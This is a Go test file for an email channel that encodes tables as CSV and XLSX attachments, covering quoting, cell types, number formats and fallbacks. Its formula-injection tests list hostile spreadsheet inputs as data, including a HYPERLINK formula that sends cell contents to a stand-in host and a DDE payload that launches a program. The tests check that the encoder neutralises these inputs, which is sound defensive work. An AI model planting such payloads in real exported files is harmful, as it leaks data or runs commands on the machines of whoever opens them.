package email_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"fmt"
	"io"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/datapush-go/datapush/channel"
	"github.com/datapush-go/datapush/channel/email"
)

// attach encodes one table and gives its attachment and the warnings.
func attach(t testing.TB, tab *channel.Table) (part, []channel.Warning) {
	t.Helper()
	m := &channel.Message{ID: "1", At: at, Title: "T", Sections: []channel.Section{{Blocks: []channel.Block{tab}}}}
	ps, err := email.New(nil).Encode(m, email.To("mail", plainAccount))
	if err != nil {
		t.Fatal(err)
	}
	_, tree := parse(t, ps[0].Body)
	return tree.Parts[len(tree.Parts)-1], ps[0].Warnings
}

func TestCSVHoldsRawValues(t *testing.T) {
	text := func(s string) channel.Cell { return channel.Cell{Text: s, Raw: s} }
	num := func(text, raw string) channel.Cell {
		return channel.Cell{Text: text, Raw: raw, Mark: "↑", Type: channel.TypeNumber}
	}
	tab := &channel.Table{
		Columns: []channel.Column{{Header: "名称"}, {Header: "revenue, net", Prefix: "¥", Suffix: " yuan", Format: "#,##0"}},
		Cells: []channel.Cell{
			text("plain"), num("11,000", "11000.5"),
			text(`say "hi", twice`), num("-1,000", "-1000"),
			text("two\nlines"), {Type: channel.TypeNull},
			text("时间"), {Text: "2024-01-02", Raw: "2024-01-02T00:00:00+08:00", Type: channel.TypeTime},
			text(" padded "), {Text: "yes", Raw: "true", Type: channel.TypeBool},
		},
	}
	for _, tc := range []struct{ form, want string }{
		{"csv", "\uFEFF名称,\"revenue, net\"\r\nplain,11000.5\r\n\"say \"\"hi\"\", twice\",-1000\r\n\"two\nlines\",\r\n时间,2024-01-02T00:00:00+08:00\r\n\" padded \",true\r\n"},
		{"csv-shown", "\uFEFF名称,\"revenue, net\"\r\nplain,\"¥11,000 yuan↑\"\r\n\"say \"\"hi\"\", twice\",\"¥-1,000 yuan↑\"\r\n\"two\nlines\",\r\n时间,¥2024-01-02 yuan\r\n\" padded \",¥yes yuan\r\n"},
	} {
		t.Run(tc.form, func(t *testing.T) {
			tab.File = tc.form
			p, warnings := attach(t, tab)
			if d := cmp.Diff(tc.want, p.Body); d != "" {
				t.Errorf("(-want +got):\n%s", d)
			}
			if p.Name != "T-1.csv" || p.Type != "text/csv" || len(warnings) != 0 {
				t.Errorf("%s %s %v", p.Name, p.Type, warnings)
			}
		})
	}
}

func TestCSVRunsNoFormula(t *testing.T) {
	cases := []struct{ text, want string }{
		{"=1+1", "'=1+1"},
		{`=HYPERLINK("http://x.com?"&A1,"click")`, `"'=HYPERLINK(""http://x.com?""&A1,""click"")"`},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"+1-cmd|' /C calc'!A0", "'+1-cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"\t=1+1", "\"'\t=1+1\""},
		{"\n=1+1", "\"'\n=1+1\""},
		{" =1+1", "\"' =1+1\""},
		{"＝1+1", "\"'＝1+1\""},
		{"\uFEFF=1+1", "\"'=1+1\""},
		{"x;=1+1", `"x;=1+1"`},
		{"x\t=1+1", "\"x\t=1+1\""},
		{"-5", "-5"},
		{"+8613800000000", "+8613800000000"},
		{"-1.5e3", "-1.5e3"},
		{"1-1", "1-1"},
		{"'quoted", "'quoted"},
		{"", ""},
	}
	for _, tc := range cases {
		t.Run(tc.text, func(t *testing.T) {
			p, _ := attach(t, &channel.Table{
				Columns: []channel.Column{{Header: tc.text}, {Header: "end"}},
				Cells:   []channel.Cell{{Text: tc.text, Raw: tc.text}, {Text: "e", Raw: "e"}},
			})
			want := "\uFEFF" + tc.want + ",end\r\n" + tc.want + ",e\r\n"
			if d := cmp.Diff(want, p.Body); d != "" {
				t.Errorf("(-want +got):\n%s", d)
			}
		})
	}
}

func FuzzCSV(f *testing.F) {
	for _, s := range []string{"", "a,b", "=1", "\"", "\r\n", " x", "\t=x", "-1", "＝", "\uFEFF=", "\xff"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		p, _ := attach(t, &channel.Table{
			Columns: []channel.Column{{Header: "h"}, {Header: "end"}},
			Cells:   []channel.Cell{{Text: s, Raw: s}, {Text: "e", Raw: "e"}},
		})
		if !utf8.ValidString(p.Body) {
			t.Fatal("the file is not UTF-8")
		}
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(p.Body, "\uFEFF"))).ReadAll()
		if err != nil || len(rows) != 2 || len(rows[1]) != 2 || rows[1][1] != "e" {
			t.Fatalf("encoding/csv reads %q, %v from %q", rows, err, p.Body)
		}
		if got := strings.TrimLeft(rows[1][0], " \t\n"); got != "" && strings.ContainsAny(got[:1], "=@") {
			t.Errorf("%q can run as a formula", rows[1][0])
		}
	})
}

// The parts of a workbook that the tests read, by ECMA-376 and not by the
// library that wrote them.
type xlsxSheet struct {
	Panes []struct {
		YSplit string `xml:"ySplit,attr"`
		State  string `xml:"state,attr"`
	} `xml:"sheetViews>sheetView>pane"`
	Cols []struct {
		Min   int     `xml:"min,attr"`
		Width float64 `xml:"width,attr"`
	} `xml:"cols>col"`
	Rows []struct {
		Cells []struct {
			Ref   string `xml:"r,attr"`
			Type  string `xml:"t,attr"`
			Style int    `xml:"s,attr"`
			Value string `xml:"v"`
			Text  string `xml:"is>t"`
			Run   string `xml:"f"`
		} `xml:"c"`
	} `xml:"sheetData>row"`
}

type xlsxStyles struct {
	Formats []struct {
		ID   int    `xml:"numFmtId,attr"`
		Code string `xml:"formatCode,attr"`
	} `xml:"numFmts>numFmt"`
	Fonts []struct {
		Bold  *struct{} `xml:"b"`
		Color struct {
			RGB string `xml:"rgb,attr"`
		} `xml:"color"`
	} `xml:"fonts>font"`
	Cells []struct {
		Format int `xml:"numFmtId,attr"`
		Font   int `xml:"fontId,attr"`
	} `xml:"cellXfs>xf"`
}

func readXLSX(t testing.TB, data string) (xlsxSheet, xlsxStyles) {
	t.Helper()
	z, err := zip.NewReader(strings.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	var sheet xlsxSheet
	var styles xlsxStyles
	for name, v := range map[string]any{"xl/worksheets/sheet1.xml": &sheet, "xl/styles.xml": &styles} {
		f, err := z.Open(name)
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(f)
		if err != nil {
			t.Fatal(err)
		}
		if err := xml.Unmarshal(b, v); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
	}
	return sheet, styles
}

func TestXLSXHasTypedCellsAndTheirLooks(t *testing.T) {
	cell := func(typ channel.CellType, text, raw string) channel.Cell {
		return channel.Cell{Text: text, Raw: raw, Type: typ}
	}
	marked := channel.Cell{Text: "-1,000", Raw: "-1000", Type: channel.TypeNumber, Color: channel.ColorRed, Mark: "↓"}
	tab := &channel.Table{
		File: "xlsx",
		Columns: []channel.Column{
			{Header: "name"}, {Header: "revenue", Prefix: "¥", Format: "#,##0"}, {Header: "share", Suffix: `"%`}, {Header: "day"}, {Header: "at"}, {Header: "ok"},
		},
		Cells: []channel.Cell{
			cell(channel.TypeText, "=1+1", "=1+1"), cell(channel.TypeNumber, "11,000", "11000.25"), cell(channel.TypeNumber, "1", "1"),
			cell(channel.TypeDate, "2024-01-02", "2024-01-02"), cell(channel.TypeTime, "x", "2024-01-02T12:00:00+08:00"), cell(channel.TypeBool, "true", "true"),
			cell(channel.TypeText, "<b>&", "<b>&"), marked, cell(channel.TypeNumber, "12345678901234567", "12345678901234567"),
			{Type: channel.TypeNull}, cell(channel.TypeTime, "1700", "1700-01-01T00:00:00Z"), cell(channel.TypeBool, "false", "false"),
		},
	}
	p, warnings := attach(t, tab)
	if p.Name != "T-1.xlsx" || p.Type != "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" {
		t.Errorf("%s %s", p.Name, p.Type)
	}
	sheet, styles := readXLSX(t, p.Body)
	formats := map[int]string{0: "General"}
	for _, f := range styles.Formats {
		formats[f.ID] = f.Code
	}
	var got []string
	for _, r := range sheet.Rows {
		for _, c := range r.Cells {
			xf := styles.Cells[c.Style]
			font := styles.Fonts[xf.Font]
			line := fmt.Sprintf("%s %s %s %q", c.Ref, c.Type, c.Value+c.Text, formats[xf.Format])
			if font.Bold != nil {
				line += " bold"
			}
			if font.Color.RGB != "" {
				line += " " + font.Color.RGB
			}
			if c.Run != "" {
				line += " runs " + c.Run
			}
			got = append(got, line)
		}
	}
	want := []string{
		`A1 inlineStr name "General" bold`, `B1 inlineStr revenue "General" bold`, `C1 inlineStr share "General" bold`,
		`D1 inlineStr day "General" bold`, `E1 inlineStr at "General" bold`, `F1 inlineStr ok "General" bold`,
		`A2 inlineStr =1+1 "General"`,
		`B2  11000.25 "\"¥\"#,##0;\"¥\"-#,##0;\"¥\"#,##0;\"¥\"@"`,
		`C2  1 "General\"\"\\\"\"%\";-General\"\"\\\"\"%\";General\"\"\\\"\"%\";@\"\"\\\"\"%\""`,
		`D2  45293 "yyyy-mm-dd"`, `E2  45293.5 "yyyy-mm-dd hh:mm:ss"`, `F2 b 1 "General"`,
		`A3 inlineStr <b>& "General"`,
		`B3  -1000 "\"¥\"#,##0\"↓\";\"¥\"-#,##0\"↓\";\"¥\"#,##0\"↓\";\"¥\"@\"↓\"" FFD1242F`,
		`C3 inlineStr 12345678901234567 "General\"\"\\\"\"%\";-General\"\"\\\"\"%\";General\"\"\\\"\"%\";@\"\"\\\"\"%\""`,
		`E3 inlineStr 1700 "yyyy-mm-dd hh:mm:ss"`, `F3 b 0 "General"`,
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("cells (-want +got):\n%s", d)
	}
	if len(sheet.Panes) != 1 || sheet.Panes[0].YSplit != "1" || sheet.Panes[0].State != "frozen" {
		t.Errorf("the header is not frozen: %+v", sheet.Panes)
	}
	for i, c := range sheet.Cols {
		if c.Min != i+1 || c.Width < 8 || i == 2 && c.Width < 19 {
			t.Errorf("column %d: %+v", i+1, c)
		}
	}
	if len(warnings) != 1 || warnings[0].Code != channel.WarnDegraded {
		t.Errorf("warnings %v", warnings)
	}
}

func TestXLSXTakesTheColumnsFormat(t *testing.T) {
	cases := []struct {
		format string
		typ    channel.CellType
		raw    string
		want   string
	}{
		{"#,##0.00", channel.TypeNumber, "1", "#,##0.00"},
		{"0.0%", channel.TypeNumber, "1", "0.0%"},
		{"[Red]0", channel.TypeNumber, "1", "General"},
		{"yyyy/mm/dd", channel.TypeDate, "2024-01-02", "yyyy/mm/dd"},
		{"YYYY-MM-DD HH24:MI:SS", channel.TypeTime, "2024-01-02T00:00:00Z", "yyyy-mm-dd hh:mm:ss"},
		{"yyyy年m月d日", channel.TypeDate, "2024-01-02", `yyyy"年"m"月"d"日"`},
		{`yyyy"Q"`, channel.TypeDate, "2024-01-02", `yyyy"Q"`},
		{"hh12:mi", channel.TypeTime, "2024-01-02T00:00:00Z", "yyyy-mm-dd hh:mm:ss"},
		{"", channel.TypeDate, "2024-01-02", "yyyy-mm-dd"},
	}
	for _, tc := range cases {
		t.Run(tc.format, func(t *testing.T) {
			p, _ := attach(t, &channel.Table{
				File: "xlsx", Columns: []channel.Column{{Header: "h", Format: tc.format}},
				Cells: []channel.Cell{{Text: "x", Raw: tc.raw, Type: tc.typ}},
			})
			sheet, styles := readXLSX(t, p.Body)
			// Formats below 164 are built in (ECMA-376 part 1, 18.8.30).
			formats := map[int]string{0: "General", 10: "0.00%", 4: "#,##0.00"}
			for _, f := range styles.Formats {
				formats[f.ID] = f.Code
			}
			got := formats[styles.Cells[sheet.Rows[1].Cells[0].Style].Format]
			if d := cmp.Diff(tc.want, got); d != "" {
				t.Errorf("(-want +got):\n%s", d)
			}
		})
	}
}

func TestTablesThatASpreadsheetCannotHoldAreCSV(t *testing.T) {
	wide := bigTable(1, 16_385)
	wide.File = "xlsx"
	p, warnings := attach(t, wide)
	if p.Name != "T-1.csv" || len(warnings) == 0 || warnings[0].Code != channel.WarnDegraded {
		t.Errorf("%s, warnings %v", p.Name, warnings)
	}
	odd := salesTable()
	odd.File = "pdf"
	p, warnings = attach(t, odd)
	if p.Name != "T-1.csv" || len(warnings) != 1 {
		t.Errorf("%s, warnings %v", p.Name, warnings)
	}
}

func TestChartsAndPicturesAreAttached(t *testing.T) {
	picture := pngOf(t, 3, 3)
	m := &channel.Message{Title: "C", Email: []channel.Block{para("x")}, Sections: []channel.Section{
		{Blocks: []channel.Block{&channel.Chart{Image: &channel.Image{Data: picture}, Table: salesTable()}}},
		{Blocks: []channel.Block{&channel.Chart{Table: salesTable()}}},
		{Blocks: []channel.Block{&channel.Image{Data: []byte("nothing"), Alt: "broken"}}},
		{Blocks: []channel.Block{para("no source"), salesTable()}},
	}}
	p := encode(t, email.New(nil), m, email.To("mail", plainAccount))
	_, tree := parse(t, p.Body)
	want := `multipart/mixed
  multipart/alternative
    text/plain
    text/html
  image/png attachment C-1.png
  text/csv attachment C-1.csv
  text/markdown attachment C-1.md
  text/csv attachment C-2.csv
  text/markdown attachment C-2.md
`
	if d := cmp.Diff(want, tree.tree()); d != "" {
		t.Errorf("tree (-want +got):\n%s", d)
	}
	if !bytes.Equal([]byte(tree.find("image/png").Body), picture) {
		t.Error("the picture is not the same bytes")
	}
	var codes []channel.WarningCode
	for _, w := range p.Warnings {
		codes = append(codes, w.Code)
	}
	if d := cmp.Diff([]channel.WarningCode{channel.WarnDegraded, channel.WarnUnresolved}, codes); d != "" {
		t.Errorf("warnings (-want +got):\n%s", d)
	}
}
